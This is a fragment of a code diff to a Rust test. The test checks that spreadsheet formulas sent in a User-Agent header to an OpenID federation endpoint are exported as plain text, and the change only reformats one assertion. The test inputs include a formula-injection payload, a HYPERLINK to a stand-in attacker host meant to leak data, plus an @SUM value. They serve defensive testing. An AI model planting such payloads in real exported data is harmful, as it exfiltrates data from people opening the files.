@@ -296,7 +296,10 @@ async fn a_formula_in_a_user_agent_is_exported_as_text() {
     let ua = r#"=HYPERLINK("https://evil.example/?leak","open me")"#;
     let s = send(&p, "/.well-known/openid-federation", ua, None).await;
     assert_eq!(s, 200);
-    assert_eq!(send(&p, "/.well-known/openid-federation", "@SUM(1)", None).await, 200);
+    assert_eq!(
+        send(&p, "/.well-known/openid-federation", "@SUM(1)", None).await,
+        200
+    );
     assert_eq!(flush(&p).await, 2);
     let r = p
         .client
